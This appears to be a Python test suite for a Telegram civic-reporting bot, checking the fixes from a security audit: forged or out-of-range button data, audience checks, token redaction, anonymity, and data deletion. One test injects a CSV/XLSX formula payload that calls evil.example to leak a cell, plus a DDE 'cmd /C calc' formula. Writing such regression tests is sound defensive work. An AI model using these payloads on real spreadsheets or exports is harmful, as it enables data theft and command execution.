"""Issue 18, the outside audit: each hole it found, driven through the real Dispatcher and the fake
Bot API on SQLite and PostgreSQL; each test fails without its fix."""
from __future__ import annotations

import csv
import io
import logging
from datetime import timedelta

from openpyxl import load_workbook
from sqlalchemy import func, select

from bot.redact import MASK, redact_token
from bot.services import events as events_service
from bot.services import orgs as orgs_service
from bot.services import users as users_service
from storage.models import EventQuestion, Poll, PollAnswer, Report, utcnow
from tests.delivery_helpers import organizer, resident
from tests.flows.helpers import register
from tests.flows.reports_helpers import file_report, moderator, moderators_group
from tests.harness import ADMIN_ID, TOKEN, Harness

BIG = ("2147483648", "99999999999999999999", "-2147483649")
REFUSAL = "Sorry, this button is not for you."


# ------------------------------------------------------------------ 8. ids out of range, in one place


async def test_out_of_range_ids_in_buttons_get_a_polite_refusal_and_never_reach_the_database(
        harness: Harness) -> None:
    group = moderators_group(harness)
    zina = await register(harness, 7001, "Zina")
    mod = await moderator(harness, group, 7002, "Mod")
    await file_report(zina)
    mediator = await organizer(harness, 7003)
    async with harness.db() as s:
        user = await users_service.by_telegram_id(s, 7003)
        assert user is not None
        await s.refresh(user, ["roles"])
        await users_service.grant_role(s, user, "mediator", None)
        await s.commit()
    await mediator.send("/help")
    presses = [(zina, f"myr:open:{n}") for n in BIG] + [(zina, f"ev:{n}:open:0:0") for n in BIG]
    presses += [(mod, f"mod:accept:{n}:new:") for n in BIG] + [(mediator, f"md:v:{n}:0") for n in BIG]
    presses += [(mediator, f"cmp:cancel:{n}") for n in BIG] + [(zina, f"pj:v:{BIG[1]}:0:-1::0")]
    for who, data in presses:
        if who is mod:
            answer = await group.press_data(who, data, message=group.messages[-1])
        else:
            answer = await who.press_data(data, message=who.messages[-1])
        assert answer is not None and answer["text"] == REFUSAL and answer.get("show_alert"), (data, answer)
    assert "went wrong" not in zina.last.text.lower()


async def test_out_of_range_ids_in_deep_links_are_refused(harness: Harness) -> None:
    anna = await register(harness, 7011, "Anna")
    for link in (f"/start poll_{BIG[0]}", f"/start vote_{BIG[1]}_0_0", f"/start event_{BIG[0]}",
                 f"/start proposal_{BIG[1]}", f"/start discussion_{BIG[0]}"):
        await anna.send(link)
        assert anna.last.text == "This link is not valid any more. Type /help to see what I can do.", link


async def test_forged_taps_on_someone_elses_report_are_refused_without_touching_the_message(
        harness: Harness) -> None:
    moderators_group(harness)
    zina = await register(harness, 7021, "Zina")
    number = await file_report(zina)
    olga = await register(harness, 7022, "Olga")
    await olga.send("/myreports")
    pressed = olga.last
    for action in ("open", "info", "reply", "withdraw", "wd_yes", "fixed", "notfixed"):
        answer = await olga.press_data(f"myr:{action}:{number}", message=pressed)
        assert answer is not None and answer["text"] == REFUSAL and answer.get("show_alert"), (action, answer)
    assert olga.last.message_id == pressed.message_id and olga.last.text == pressed.text  # nothing appended
    async with harness.db() as s:
        report = await s.get(Report, number)
        assert report is not None and report.status == "new"


# ------------------------------------------------------------------ 6. every event action checks the audience


async def test_every_event_action_is_for_its_audience_only(harness: Harness) -> None:
    now = utcnow()
    async with harness.db() as s:
        event = await events_service.create_event(s, events_service.EventDraft(
            kind="meeting", title={"en": "Greens' working meeting"}, starts_at=now + timedelta(days=2),
            ends_at=now + timedelta(days=2, hours=1), online_url="https://meet.example/secret-room",
            audience={"districts": ["suburbs"]}), default_locale="en", created_by=None, now=now)
        await s.commit()
        event_id = event.id
    outsider = await register(harness, 7031, "Out", district_index=0)  # not the event's district
    async with harness.db() as s:
        user = await users_service.by_telegram_id(s, 7031)
        assert user is not None and user.district != "suburbs"
    before = len(outsider.messages)
    for action in ("open:0:0", "ics:0:0", "ask:1:0", "going:1:0"):
        answer = await outsider.press_data(f"ev:{event_id}:{action}", message=outsider.messages[-1])
        assert answer is not None and answer["text"] == "Sorry, this event is for other residents (another " \
            "district or group).", (action, answer)
    await outsider.send("What is the link?")  # no question step was started
    assert len(outsider.messages) == before + 1
    assert not any("secret-room" in m.text for m in outsider.messages)
    assert not any(m.kind == "document" for m in outsider.messages)
    async with harness.db() as s:
        assert await s.scalar(select(func.count()).select_from(EventQuestion)) == 0


# ------------------------------------------------------------------ 2. formulas and control characters


async def test_formulas_stay_text_and_control_characters_never_break_an_export(harness: Harness) -> None:
    moderators_group(harness)
    anna = await register(harness, 7041, "Anna")
    await file_report(anna, text='=HYPERLINK("http://evil.example/?d="&A2,"Click") lamp\x0b is\x07 out',
                      place="@SUM(1+1)*cmd|' /C calc'!A0")
    async with harness.db() as s:
        report = await s.get(Report, 1)
        assert report is not None and "\x0b" not in report.description and "\x07" not in report.description
    org = await organizer(harness, 7042)
    await org.send("/export")
    await org.press("📝 Reports · CSV")
    raw = harness.fake.files[org.last.file_id]  # type: ignore[index]
    (row,) = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert row["description"].startswith("'=HYPERLINK(") and row["address"].startswith("'@SUM(")
    await org.press("📝 Reports · XLSX")
    sheet = load_workbook(io.BytesIO(harness.fake.files[org.last.file_id])).active  # type: ignore[index]
    header, values = list(sheet.iter_rows())[:2]
    cells = {h.value: c for h, c in zip(header, values, strict=True)}
    assert cells["Description"].data_type == "s" and cells["Description"].value.startswith("=HYPERLINK(")
    assert cells["Address"].data_type == "s" and cells["Address"].value.startswith("@SUM(")


async def test_a_control_character_stored_before_the_fix_does_not_break_the_xlsx(harness: Harness) -> None:
    user_id = await resident(harness, 7051)
    async with harness.db() as s:
        s.add(Report(user_id=user_id, category="roads", description="old\x0b row\x07", status="new"))
        await s.commit()
    org = await organizer(harness, 7052)
    await org.send("/export")
    await org.press("📝 Reports · XLSX")
    sheet = load_workbook(io.BytesIO(harness.fake.files[org.last.file_id])).active  # type: ignore[index]
    assert "old row" in [c.value for c in list(sheet.iter_rows())[1]]


# ------------------------------------------------------------------ 9. the token in no log line


def test_the_token_is_masked_in_every_log_record_message_and_traceback(caplog) -> None:  # type: ignore[no-untyped-def]
    from bot.redact import install

    install(TOKEN)
    log = logging.getLogger("aiogram.dispatcher")
    url = f"https://api.telegram.org/bot{TOKEN}/sendMessage"
    with caplog.at_level(logging.INFO):
        log.warning("Request to %s failed", url)
        try:
            raise RuntimeError(f"Too many redirects: {url}")
        except RuntimeError:
            log.exception("Sending failed")
    text = "\n".join(caplog.messages) + "\n".join(r.exc_text or "" for r in caplog.records) + caplog.text
    assert TOKEN not in text and "TEST-TOKEN" not in text and MASK in text
    assert redact_token(f"bot{TOKEN}/x and bot987654:{'A' * 35}", TOKEN) == f"bot{MASK}/x and bot{MASK}"


# ------------------------------------------------------------------ 10. acting for another organisation


async def test_a_representative_of_one_organisation_is_refused_another_at_the_first_tap(harness: Harness) -> None:
    rep = await register(harness, 7061, "Rep")
    async with harness.db() as s:
        one = await orgs_service.create(s, orgs_service.OrgDraft(name={"en": "Greens One"}), None)
        two = await orgs_service.create(s, orgs_service.OrgDraft(name={"en": "Water Two"}), None)
        user = await users_service.by_telegram_id(s, 7061)
        assert user is not None
        await orgs_service.join(s, one.id, user, orgs_service.REPRESENTATIVE)
        await orgs_service.decide(s, one.id, user.id, True, None)
        await s.commit()
        two_id = two.id
    await rep.send("/help")
    for cmd in ("newpoll", "newevent", "announce"):
        answer = await rep.press_data(f"act:{cmd}:{two_id}", message=rep.messages[-1])
        assert answer is not None and answer["text"] == "You can act only for the organisations you represent."
        answer = await rep.press_data(f"act:{cmd}:0", message=rep.messages[-1])  # nor for the platform
        assert answer is not None and answer["text"] == "You can act only for the organisations you represent."
    assert not any("kind" in m.text.lower() and m.buttons for m in rep.messages[-3:])
    await rep.send("Where?\nHere\nThere")  # no wizard is waiting for a question
    async with harness.db() as s:
        assert await s.scalar(select(func.count()).select_from(Poll)) == 0


# ------------------------------------------------------------------ 11. /digest for an unregistered admin


async def test_digest_daily_from_an_admin_without_a_resident_record(harness: Harness) -> None:
    admin = harness.user(ADMIN_ID, first_name="Admin", language_code="en")
    await admin.send("/digest")
    answer = await admin.press("👤 Daily")
    assert answer is not None and "register first" in answer["text"]


# ------------------------------------------------------------------ 7. a link never votes by itself


async def test_a_vote_link_preselects_the_choice_and_waits_for_a_confirmation(harness: Harness) -> None:
    from tests.delivery_helpers import tune
    from tests.flows.test_polls import create_single_poll

    tune(harness, time_scale=20, progress_interval=0.05)
    org = await organizer(harness, 7071)
    poll_id = await create_single_poll(harness, org)
    anna = await register(harness, 7072, "Anna")
    await anna.send(f"/start vote_{poll_id}_0_2")
    assert "The link chose «Online» for you. Nothing is recorded yet" in anna.last.text
    assert anna.last.buttons[0] == "✅ Confirm my vote"
    async with harness.db() as s:
        assert await s.scalar(select(func.count()).select_from(PollAnswer)) == 0
    await anna.press("✅ Confirm my vote")
    assert "Your answer: Online" in anna.last.text and "✅ Confirm my vote" not in anna.last.buttons
    async with harness.db() as s:
        assert await s.scalar(select(PollAnswer.choice)) == 2
    await anna.send(f"/start vote_{poll_id}_0_2")
    assert "«Online» is already your answer." in anna.last.text
    await anna.send(f"/start vote_{poll_id}_0_1")  # another choice from a link: the old answer stays
    await anna.send("/help")
    async with harness.db() as s:
        assert await s.scalar(select(PollAnswer.choice)) == 2


# ------------------------------------------------------------------ 3. a pseudonym per report and proposal


async def test_a_report_shown_with_the_name_unmasks_no_other_report_or_proposal(harness: Harness) -> None:
    import re

    from tests.flows.reports_helpers import card_of

    group = moderators_group(harness)
    olena = await register(harness, 7081, "Olena")
    named = await file_report(olena, show_name=True)
    anonymous = await file_report(olena, text="A second broken lamp on Perekopska street")
    named_card, anonymous_card = card_of(group, named), card_of(group, anonymous)
    assert "Olena" in named_card.text and "Olena" not in anonymous_card.text
    alias_named = re.search(r"\((R-\w+)\)", named_card.text).group(1)  # type: ignore[union-attr]
    alias_anonymous = re.search(r"Resident (R-\w+)", anonymous_card.text).group(1)  # type: ignore[union-attr]
    assert alias_named != alias_anonymous and alias_named not in anonymous_card.text
    await olena.send("/myreports")
    await olena.press_data(f"myr:reply:{anonymous}", message=olena.last)
    await olena.send("Call me, it is urgent")
    relayed = group.last
    assert "Olena" not in relayed.text and alias_named not in relayed.text and alias_anonymous in relayed.text
    async with harness.db() as s:
        reports = {r.id: r.alias for r in await s.scalars(select(Report))}
        assert len(set(reports.values())) == 2


async def test_a_proposal_from_an_organisation_shows_no_pseudonym_beside_it(harness: Harness) -> None:
    from bot.services import proposals as proposals_service
    from handlers.proposals.moderation import _render

    rep_id = await resident(harness, 7091)
    async with harness.db() as s:
        user = await users_service.by_id(s, rep_id)
        assert user is not None
        org = await orgs_service.create(s, orgs_service.OrgDraft(name={"en": "Greens One"}), None)
        draft = proposals_service.ProposalDraft(title="Benches", problem="Nowhere to sit in the park.",
                                                solution="Ten benches.", district="ostriv", category="infrastructure")
        mine = await proposals_service.submit(s, user, draft, None)
        theirs = await proposals_service.submit(s, user, draft, org)
        await s.commit()
        assert harness.app is not None
        app = harness.app
        app.i18n.set_current(app.i18n)
        personal_text, _m = await _render(s, mine, app.settings, app.community, app.i18n)
        org_text, _m = await _render(s, theirs, app.settings, app.community, app.i18n)
    assert f"From: {mine.alias}" in personal_text and mine.alias != theirs.alias
    assert "From: Greens One" in org_text and "R-" not in org_text


# ------------------------------------------------------------------ 5. /deleteme and the moderators' chat


async def test_deleteme_deletes_every_relayed_message_that_names_the_person(harness: Harness) -> None:
    from tests.flows.reports_helpers import card_of

    group = moderators_group(harness)
    zina = await register(harness, 7101, "Zinaida")
    number = await file_report(zina, show_name=True)
    await zina.send("/myreports")
    await zina.press_data(f"myr:info:{number}", message=zina.last)
    await zina.send("It is the third lamp, call me +380501112233")
    await zina.send("/myreports")
    await zina.press_data(f"myr:reply:{number}", message=zina.last)
    await zina.send("I am at home after six")
    relayed = [m for m in group.messages if m.reply_to_message_id == card_of(group, number).message_id]
    assert len(relayed) == 2 and all("Zinaida" in m.text for m in relayed)
    await zina.send("/deleteme")
    await zina.press("🗑 Yes, delete my data")
    still = [m.text for m in harness.fake.bot_messages(group.id)]
    assert not any("Zinaida" in t or "380501112233" in t for t in still), still
    assert "Zinaida" not in card_of(group, number).text


async def test_deleteme_erases_free_text_poll_answers(harness: Harness) -> None:
    from bot.services import polls as polls_service
    from storage.models import PollResponse

    user_id = await resident(harness, 7111)
    now = utcnow()
    async with harness.db() as s:
        poll = await polls_service.create_poll(s, polls_service.PollDraft(questions=[polls_service.QuestionDraft(
            kind="text", text={"en": "What should change?"})], closes_at=now + timedelta(days=7)),
            default_locale="en", created_by=None, now=now)
        user = await users_service.by_id(s, user_id)
        assert user is not None
        assert harness.app is not None
        key = polls_service.participant_key(harness.app.dp["poll_secret"], poll.id, user_id)
        await polls_service.answer_text(s, poll, 0, "I, Olena from flat 5, want a ramp", user, key, now)
        await s.commit()
    who = harness.fake.user(7111)
    await who.send("/deleteme")
    await who.press("🗑 Yes, delete my data")
    async with harness.db() as s:
        assert await s.scalar(select(func.count()).select_from(PollAnswer)) == 0
        assert await s.scalar(select(func.count()).select_from(PollResponse)) == 1  # still counted as taking part


# ------------------------------------------------------------------ 4. who got the results is not kept


async def test_results_to_participants_keep_no_list_of_who_answered(harness: Harness) -> None:
    from bot.services import polls as polls_service
    from handlers.polls.kinds import forget_results_recipients
    from storage.models import Campaign, Delivery
    from tests.delivery_helpers import finished, tune

    tune(harness, time_scale=20, progress_interval=0.05)
    ids = [await resident(harness, 7120 + n) for n in range(3)]
    now = utcnow()
    async with harness.db() as s:
        poll = await polls_service.create_poll(s, polls_service.PollDraft(questions=[polls_service.QuestionDraft(
            kind="single", text={"en": "Where?"}, options=[{"en": "School"}, {"en": "Park"}])],
            closes_at=now + timedelta(days=7)), default_locale="en", created_by=None, now=now)
        for uid in ids[:2]:
            user = await users_service.by_id(s, uid)
            assert user is not None and harness.app is not None
            key = polls_service.participant_key(harness.app.dp["poll_secret"], poll.id, uid)
            await polls_service.vote(s, poll, 0, 1, user, key, now)
        await polls_service.close_poll(s, poll.id, now)
        await s.commit()
        poll_id = poll.id
    async with harness.db() as s:
        poll = await s.get(Poll, poll_id)
        assert poll is not None and harness.app is not None
        assert await polls_service.publish_results(s, poll, harness.app.dp["poll_secret"], now, None, 1) == 2
        await s.commit()
        campaign = await s.scalar(select(Campaign).where(Campaign.kind == "poll-results"))
        assert campaign is not None and campaign.audience["user_ids"] == []  # no list in the campaign
    harness.app.delivery.wake()
    assert await finished(harness, campaign.id) == {"sent": 2}
    assert await forget_results_recipients(_JobCtx(harness)) == 2  # type: ignore[arg-type]
    async with harness.db() as s:
        assert await s.scalar(select(func.count()).select_from(Delivery).where(Delivery.campaign_id == campaign.id)) == 0
        assert (await s.get(Campaign, campaign.id)).total == 2  # type: ignore[union-attr]
    assert "Poll results" in harness.fake.user(7120).last.text


class _JobCtx:
    def __init__(self, h: Harness) -> None:
        assert h.app is not None
        self.sessionmaker = h.app.sessionmaker
